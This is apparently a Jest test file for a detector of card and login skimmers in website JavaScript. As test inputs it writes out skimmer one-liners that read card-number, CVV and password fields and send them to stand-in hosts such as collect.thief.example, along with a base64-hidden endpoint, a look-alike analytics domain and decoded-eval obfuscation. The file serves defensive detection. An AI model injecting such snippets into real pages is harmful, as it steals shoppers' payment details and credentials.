import { describe, expect, it } from '@jest/globals';
import { scanBehaviours } from './behaviours.ts';

const found = (code: string) => scanBehaviours(code).map(({ behaviour, host }) => `${behaviour} ${host ?? '–'}`);
const HIDDEN = Buffer.from('https://collect.thief.example/c').toString('base64');

describe('what skimmers do', () => {
  it.each([
    [
      'reads a card field and sends it',
      `var n=document.querySelector('input[name="cardnumber"]').value;fetch('https://collect.thief.example/c',{method:'POST',body:n})`,
      ['reads-payment-fields-and-sends collect.thief.example'],
    ],
    [
      'reads a password and sends it by an old request',
      `var p=document.getElementById("password").value,x=new XMLHttpRequest;x.open("POST","//thief.example/p");x.send(p)`,
      ['reads-payment-fields-and-sends thief.example'],
    ],
    [
      'hides where it sends to',
      `var v=document.getElementById('cvv').value;navigator.sendBeacon(atob("${HIDDEN}"),v)`,
      ['reads-payment-fields-and-sends collect.thief.example'],
    ],
    [
      'points a form elsewhere',
      `document.querySelector('input[autocomplete="cc-number"]').value && (form.action = 'https://pay.thief.example/')`,
      ['reads-payment-fields-and-sends pay.thief.example'],
    ],
    [
      'puts a form into a picture’s address',
      `new Image().src='https://px.thief.example/?d='+[...document.querySelectorAll('input')].map(e=>e.value).join()`,
      ['reads-form-and-beacons px.thief.example'],
    ],
    [
      'puts a form into a beacon',
      `navigator.sendBeacon('https://px.thief.example', new FormData(document.forms[0]))`,
      ['reads-form-and-beacons px.thief.example'],
    ],
    ['runs a decoded text', 'eval(atob("YWxlcnQoMSk="))', ['decoded-eval –']],
    ['runs it by another name', 'new Function(unescape("%61"))()', ['decoded-eval –']],
    ['runs it later', 'setTimeout(String.fromCharCode(97,98),1)', ['decoded-eval –']],
    ['runs what it decoded before', 'var s=window.atob(q);run();eval(s)', ['decoded-eval –']],
    ['is packed', "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))", ['decoded-eval –']],
    ['writes letters as escapes', `var a="${'\\x63\\x61\\x72\\x64'.repeat(40)}";`.padEnd(450), ['dense-obfuscation –']],
    ['has names of an obfuscator', 'var _0x3f2a=_0x1b2c(_0x77aa);'.repeat(30), ['dense-obfuscation –']],
    ['is one long text', `run("${'aB3x9QzL'.repeat(300)}")`, ['dense-obfuscation –']],
    [
      'imitates a counter',
      `load("https://www.googie-analytics.com/a.js")`,
      ['look-alike-host www.googie-analytics.com'],
    ],
  ])('%s', (_what, code, expected) => {
    expect(found(code)).toEqual(expected);
  });

  it.each([
    ['a pixel without a form', `new Image().src='https://t.counter.example/p?u='+encodeURIComponent(location.href)`],
    [
      'the start of Google Tag Manager',
      `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-AB12CD3');`,
    ],
    [
      'the start of Facebook’s pixel',
      `!function(f,b,e,v,n,t,s){n=f.fbq=function(){};t=b.createElement(e);t.src=v;s=b.getElementsByTagName(e)[0]}(window,document,'script','https://connect.facebook.net/en_US/fbevents.js');fbq('init','1');`,
    ],
    [
      'jQuery’s own evaluation',
      `globalEval:function(e){e&&(window.execScript||function(e){window["eval"].call(window,e)})(e)},parseJSON:function(d){return(new Function("return "+d))()}`,
    ],
    [
      'a theme’s quantity and cart',
      `var input=this.querySelector('input');fetch('/cart/change.js',{method:'POST',body:JSON.stringify({quantity:input.value})})`,
    ],
    [
      'a log-in form of the shop itself',
      `var p=document.querySelector('input[type="password"]').value;fetch('/account/login',{method:'POST',body:p})`,
    ],
    [
      'a gateway’s checkout',
      `var card=document.getElementById('card-number').value;fetch('https://api.razorpay.com/v1/payments',{method:'POST',body:card})`,
    ],
    [
      'a newsletter that is sent to its service by fetch',
      `fetch('https://list.mailer.example/subscribe',{method:'POST',body:JSON.stringify({email:form.email.value})})`,
    ],
    ['data that is decoded and read', 'var s=atob(q);JSON.parse(s);eval(other)'],
    ['a picture inside a script', `var i="data:image/png;base64,${'iVBORw0KGgo'.repeat(300)}"`],
    ['a font inside a script', `var f="${'d09GMgABAAAAA'.repeat(300)}"`],
    ['letters that no keyboard has, as escapes', `var r=/[${'\\u0900\\u0964'.repeat(200)}]/`],
    ['minified code', 'function a(b,c){return b+c}var d=a(1,2);'.repeat(200)],
    ['an address of a picture', `var s="https://www.w3.org/2000/svg"`],
    ['nothing', ''],
  ])('is not seen in %s', (_what, code) => {
    expect(found(code)).toEqual([]);
  });

  it('does not join what stands far apart in a bundle', () => {
    const read = `var p=document.querySelector('input[type="password"]').value;`;
    const send = `fetch('https://log.widgets.example/e')`;
    expect(found(`${read}${send}`)).toHaveLength(1);
    expect(found(`${read}${'x();'.repeat(1_000)}${send}`)).toEqual([]);
  });

  it('tells the line', () => {
    expect(scanBehaviours('a\nb\neval(atob("YQ=="))')).toMatchObject([{ line: 3 }]);
  });

  it.each([
    ['fields without end', `${'"password"'.repeat(50_000)}https://a.example`],
    ['fields that are read and sent without end', `${`'cvv'.value fetch( `.repeat(20_000)}`],
    ['quotes', "'".repeat(300_000)],
    ['half an address', '//a.'.repeat(100_000)],
    ['kept texts without end', `${'x=atob('.repeat(50_000)}eval(y)`],
  ])('is not held up by %s', (_what, code) => {
    expect(scanBehaviours(code).length).toBeLessThanOrEqual(20);
  });
});
